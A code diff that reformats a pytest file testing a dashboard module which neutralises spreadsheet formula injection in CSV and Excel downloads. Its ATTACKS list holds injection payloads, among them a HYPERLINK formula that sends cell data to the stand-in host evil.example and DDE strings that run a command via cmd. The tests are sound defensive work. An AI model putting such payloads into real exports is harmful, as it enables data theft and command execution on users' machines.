@@ -13,8 +13,17 @@ import pytest
 from dashboard.formula_safety import csv_bytes, neutralise, neutralise_frame, xlsx_bytes
 from dashboard.settings import ROOT
 
-ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "-", "+"]
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+    "-",
+    "+",
+]
 
 
 @pytest.mark.parametrize("text", ATTACKS)
@@ -22,8 +31,27 @@ def test_formula_like_text_gets_a_quote_in_front(text):
     assert neutralise(text) == "'" + text
 
 
-@pytest.mark.parametrize("value", [-5, -4.5, 3, 0.0, np.int64(-7), "-5", "-1,234.50", "+3.5", "-0.4%", "1.2e-05",
-                                   "Oak AP", "c", "", None, "O'Neill = fine", " =leading space"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        -5,
+        -4.5,
+        3,
+        0.0,
+        np.int64(-7),
+        "-5",
+        "-1,234.50",
+        "+3.5",
+        "-0.4%",
+        "1.2e-05",
+        "Oak AP",
+        "c",
+        "",
+        None,
+        "O'Neill = fine",
+        " =leading space",
+    ],
+)
 def test_numbers_and_ordinary_text_are_untouched(value):
     assert neutralise(value) is value
 
@@ -38,8 +66,13 @@ def test_a_frame_keeps_its_numbers_numeric_and_neutralises_text_and_headers():
 
 
 def _frame() -> pd.DataFrame:
-    return pd.DataFrame({"provider_name": ATTACKS[:4] + ["Oak AP"], "change": ["-5", "-1,234.50", "12", "c", ""],
-                         "cost_gbp": [-100.0, 0.5, 3.0, 4.0, 5.0]})
+    return pd.DataFrame(
+        {
+            "provider_name": ATTACKS[:4] + ["Oak AP"],
+            "change": ["-5", "-1,234.50", "12", "c", ""],
+            "cost_gbp": [-100.0, 0.5, 3.0, 4.0, 5.0],
+        }
+    )
 
 
 def test_csv_download_neutralises_every_formula_prefix():
@@ -76,7 +109,11 @@ _WRITERS = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|xlsxwriter\.Workbo
 
 
 def test_no_module_writes_a_spreadsheet_except_through_formula_safety():
-    offenders = [str(p.relative_to(ROOT)) for p in (ROOT / "dashboard").rglob("*.py")
-                 if p.name != "formula_safety.py" and _WRITERS.search(text := p.read_text(encoding="utf-8"))
-                 and "from dashboard.formula_safety import" not in text]
+    offenders = [
+        str(p.relative_to(ROOT))
+        for p in (ROOT / "dashboard").rglob("*.py")
+        if p.name != "formula_safety.py"
+        and _WRITERS.search(text := p.read_text(encoding="utf-8"))
+        and "from dashboard.formula_safety import" not in text
+    ]
     assert offenders == []
